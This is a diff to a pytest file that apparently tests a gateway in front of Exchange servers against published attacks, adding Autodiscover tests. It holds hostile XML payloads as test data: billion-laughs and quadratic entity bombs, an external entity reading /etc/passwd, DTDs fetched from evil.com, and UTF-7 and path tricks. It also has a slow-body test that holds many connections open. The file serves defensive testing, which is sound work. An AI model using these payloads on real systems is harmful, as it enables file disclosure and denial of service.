@@ -2,12 +2,17 @@
 """Published attacks on Exchange's front ends, through casgate to back ends that
 tell what arrived: refused for a counted reason, or led where they belong
 without what made them attacks. What is honest and looks alike passes."""
+import contextlib
+import hashlib
+import time
+
 import pytest
 
 from lab import attacks
 from lab.fixture import Lab
+from lab.hosts import wait_until
 from lab.origin import Origin
-from lab.topology import ALICE, BOB
+from lab.topology import ALICE, BOB, NAMESPACE
 from lab.wire import basic
 
 # Every request that passes ends at one of these.
@@ -20,6 +25,7 @@ def module_lab():
     lab = Lab()
     gate = lab.gate
     gate.config["servers"], lab.echoes = [], {}
+    gate.config["timeouts"] = {"request-head": "3s", "autodiscover": "3s"}
     for name, version, address in (ECHO16, ECHO10):
         fqdn = f"{name.lower()}.contoso.local"
         lab.echoes[name] = Origin(lab.hosts, address, gate.authority.issue(name, [fqdn]))
@@ -113,3 +119,108 @@ def test_honest_cookies_stay_as_they_are(lab):
     assert play(lab, request.request()).status == 200
     (_, seen), = arrived(lab)
     assert seen.all("Cookie") == ['a=1; b = 2; c="3, 4"; d; X-BackEndCookie=6']
+
+
+# --- what an Autodiscover request may be made of ----------------------------------------
+
+# Nobody's address is in these: they go where whoever asks belongs.
+ADDRESS = f"<EMailAddress>{BOB.smtp}</EMailAddress>"
+LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
+BOMBS = {
+    "a document type": f"<!DOCTYPE r><r>{ADDRESS}</r>",
+    "a billion laughs": f'<!DOCTYPE r [<!ENTITY l0 "lol">{LAUGHS}]><r>&l9;{ADDRESS}</r>',
+    "quadratic": f'<!DOCTYPE r [<!ENTITY a "{"a" * 6000}">]><r>{"&a;" * 3000}</r>',
+    "a file": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+              "<r><EMailAddress>&x;</EMailAddress></r>",
+    "another server's DTD": f'<!DOCTYPE r SYSTEM "http://evil.com/x.dtd"><r>{ADDRESS}</r>',
+    "a parameter entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.com/">%p;]>'
+                          f"<r>{ADDRESS}</r>",
+    "an entity in the address": "<r><EMailAddress>bob&#64;contoso.com</EMailAddress></r>",
+    "CDATA": f"<r><![CDATA[{ADDRESS}]]></r>",
+    "a comment": f"<r><!-- {ADDRESS} --></r>",
+    "a comment without an end": f"<r><!-- {ADDRESS}</r>",
+    "an attribute": f"<r a='{ADDRESS}'/>",
+    "a quote without an end": f"<r a='>{ADDRESS}",
+    "a path": "<r><EMailAddress>bob@contoso.com/../alice@contoso.com</EMailAddress></r>",
+    "cut off": "<r><EMailAddress>bob@contoso.com",
+    "UTF-16": f"<r>{ADDRESS}</r>".encode("utf-16"),
+    "UTF-7": f"<?xml version='1.0' encoding='UTF-7'?><r>+ADw-EMailAddress+AD4-{BOB.smtp}</r>",
+    "zeros": b"\0" * 16000,
+    "tags without an end": "<" * 16000,
+    "quotes": "<r " + "'\"" * 8000,
+    "colons": "<" + "a:" * 8000 + ">x<",
+    "comments": "<!--" * 4000,
+    "behind 16 KiB": f"<r>{' ' * 16384}{ADDRESS}</r>",
+    "behind 32 KiB": f"<r>{' ' * 32768}{ADDRESS}</r>",
+}
+
+
+def discover(lab, body, headers=()):
+    """One request of Alice's; (seconds, server, what arrived)."""
+    body = body if isinstance(body, bytes) else body.encode()
+    attack = attacks.Attack("", "/Autodiscover/Autodiscover.xml",
+                            ("Content-Type: text/xml", *headers), method="POST", body=body)
+    began = time.monotonic()
+    assert play(lab, attack.request(basic(ALICE))).status == 200
+    took = time.monotonic() - began
+    (server, seen), = arrived(lab)
+    assert (seen.bytes, seen.sha256) == (len(body), hashlib.sha256(body).hexdigest())
+    return took, server, seen
+
+
+@pytest.mark.parametrize("what", BOMBS)
+def test_a_body_is_not_expanded(lab, what):
+    """It costs nothing, it is nobody's, and it arrives as it is: a document type
+    is for the server to refuse."""
+    before = lab.gate.stats()["memory.heap_in_use"]
+    took, server, _ = discover(lab, BOMBS[what])
+    assert server == "ECHO16" and took < 1
+    assert lab.gate.stats()["memory.heap_in_use"] - before < 1 << 20
+
+
+@pytest.mark.parametrize("depth", [1, 100, 1200])
+def test_an_address_is_found_at_any_depth(lab, depth):
+    took, server, _ = discover(lab, "<a x='>'>" * depth + ADDRESS + "</a>" * depth)
+    assert server == "ECHO10" and took < 1
+
+
+@pytest.mark.parametrize("words", [
+    ["-H", "Transfer-Encoding: chunked"], ["-H", "Expect: 100-continue"]], ids=lambda w: w[1])
+def test_a_body_in_other_framing(lab, words):
+    """In chunks nothing is read ahead: it goes where the user belongs."""
+    lab.curl("-u", f"{ALICE.smtp}:x", *words, "-H", "Content-Type: text/xml", "--data-binary",
+             f"<r>{ADDRESS}</r>", f"https://{NAMESPACE}/Autodiscover/Autodiscover.xml")
+    (server, seen), = arrived(lab)
+    assert server == ("ECHO16" if "chunked" in words[1] else "ECHO10")
+    assert seen.bytes == len(ADDRESS) + 7
+
+
+@pytest.mark.parametrize("announced", ["Content-Length: 1000", "Content-Length: 20000",
+                                       "Transfer-Encoding: chunked"])
+def test_a_body_at_a_byte_a_second(lab, announced):
+    """Be it read ahead or not: it ends in time as a whole, a crowd of them blocks
+    nobody, and no server sees half of it as all."""
+    head = f"POST /Autodiscover/Autodiscover.xml HTTP/1.1\r\nHost: {NAMESPACE}\r\n" \
+        f"{basic(ALICE)}Content-Type: text/xml\r\n{announced}\r\n\r\n".encode()
+    piece = b"1\r\nx\r\n" if "chunked" in announced else b"x"
+    began, ended, slowest = time.monotonic(), {}, 0
+    with contextlib.ExitStack() as stack:
+        crowd = [stack.enter_context(lab.wire()) for _ in range(40)]
+        for wire in crowd:
+            wire.send(head + piece)
+        while len(ended) < len(crowd) and time.monotonic() < began + 15:
+            for wire in crowd:
+                if wire not in ended and not wire.silent(0.005):
+                    ended[wire] = wire.read().status
+                elif wire not in ended:
+                    wire.send(piece)
+            asked = time.monotonic()
+            assert lab.ask(BOB, "ews")[0] == 200
+            slowest = max(slowest, time.monotonic() - asked)
+            time.sleep(0.5)
+        took = time.monotonic() - began
+    print(f"\n{len(ended)} of 40 ended after {took:.1f} s; others were served in {slowest:.2f} s")
+    assert set(ended.values()) == {408} and len(ended) == 40
+    assert 2 < took < 10 and slowest < 1.5
+    assert all(seen.ended != "complete" for seen in lab.echoes["ECHO16"].seen)
+    wait_until("nothing is left", lambda: lab.gate.stats()["proxy.buffers_used"] == 0)
